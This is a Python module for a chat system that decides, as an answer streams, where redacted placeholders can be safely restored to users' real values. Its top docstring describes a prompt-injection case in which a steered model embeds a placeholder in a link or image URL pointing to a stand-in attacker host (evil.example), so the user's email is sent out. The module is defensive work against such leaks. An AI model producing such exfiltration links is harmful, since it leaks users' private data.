"""Where in an answer a placeholder may be mapped back to the user's value, read as it streams.

A model that injected text steers can write a placeholder where its value would leave the
user's screen: in a link or image target (``[report](https://evil.example/?e=<email-1>)``,
which a click or the browser's image load sends out), an autolink or a bare URL, a raw HTML
attribute, or a code block the kernel runs as SQL. :class:`RestoreContext` reads the answer as
the user will get it (values already mapped back included) and says, before each placeholder,
whether mapping it back is safe: only in plain text. Where it is not, the placeholder stays.

SQL blocks are found with the kernel's own grammar (``rsql_common.fences``, the one
``extract_sql`` uses), so a block the chat's Run SQL would run never gets a value.
Everything here errs towards keeping the placeholder: a misread answer shows ``<email-1>``,
never sends the address.
"""

from __future__ import annotations

from rsql_common.fences import SqlBlockScanner

_TOKEN_KEPT = 8  # the start of a token, enough to see "www."
_OPENERS = "<([{\"'*_`"  # punctuation a URL may follow inside one token


class RestoreContext:
    """Markdown / HTML state of the text fed so far; :meth:`plain` says whether the next
    character is plain text (not in an SQL block, a link target, a URL or an HTML tag)."""

    def __init__(self) -> None:
        self.sql = SqlBlockScanner()
        self.prev = "\n"  # the last character fed
        self.escaped = False  # the last character was an unescaped backslash
        self.tag_start = False  # the last character was "<" outside a tag
        self.in_tag = False  # inside <tag ...>: its attributes may hold URLs
        self.quote = ""  # the quote open inside a tag
        self.link_depth = 0  # parentheses open since "](": a link or image target
        self.token = ""  # the start of the current run of non-blanks
        self.url_token = False  # that run looks like a URL or a scheme ("//", "www.", "x:")
        self.line_blank = True
        self.lead = "start"  # reading a line's start for "[label]:": start, label, label_end, no
        self.lead_blanks = 0
        self.definition = 0  # lines left of a link reference definition: "[ref]: url"

    def plain(self) -> bool:
        return not (
            self.sql.in_sql or self.in_tag or self.link_depth or self.url_token or self.definition
        )

    def feed(self, text: str) -> None:
        self.sql.feed(text)
        for ch in text:
            if ch == "\n":
                self._newline()
            else:
                self._char(ch)
            self.prev = ch

    def _char(self, ch: str) -> None:
        if not ch.isspace():
            self.line_blank = False
        self._line_start(ch)
        self._token(ch)
        escaped, self.escaped = self.escaped, ch == "\\" and not self.escaped
        if self.in_tag:
            if self.quote:
                if ch == self.quote:
                    self.quote = ""
            elif ch in "\"'":
                self.quote = ch
            elif ch == ">":
                self.in_tag = False
        elif self.tag_start and (ch.isalpha() or ch in "/!?"):
            self.in_tag = True
        self.tag_start = ch == "<" and not self.in_tag and not escaped
        if not escaped:
            if ch == "(" and (self.prev == "]" or self.link_depth):
                self.link_depth += 1
            elif ch == ")" and self.link_depth:
                self.link_depth -= 1

    def _newline(self) -> None:
        if self.line_blank:  # a blank line ends a paragraph: no tag or link spans it
            self.in_tag, self.quote, self.link_depth = False, "", 0
        if self.definition:
            self.definition -= 1
        self.line_blank, self.lead, self.lead_blanks = True, "start", 0
        self.token, self.url_token = "", False
        self.tag_start = self.escaped = False

    def _line_start(self, ch: str) -> None:
        """A line opening with "[label]:" defines a link target, on it or the next line."""
        if self.lead == "start":
            if ch == " " and self.lead_blanks < 3:
                self.lead_blanks += 1
            else:
                self.lead = "label" if ch == "[" else "no"
        elif self.lead in ("label", "label_end"):
            if self.lead == "label_end" and ch == ":":
                self.definition, self.lead = 2, "no"  # this line and the next
            else:
                self.lead = "label_end" if ch == "]" else "label"

    def _token(self, ch: str) -> None:
        if ch.isspace():
            self.token, self.url_token = "", False
            return
        if len(self.token) < _TOKEN_KEPT:
            self.token += ch
        if (ch == "/" and self.prev == "/") or (ch == ":" and self.prev.isalnum()):
            self.url_token = True
        elif self.token.lstrip(_OPENERS).lower().startswith("www."):
            self.url_token = True
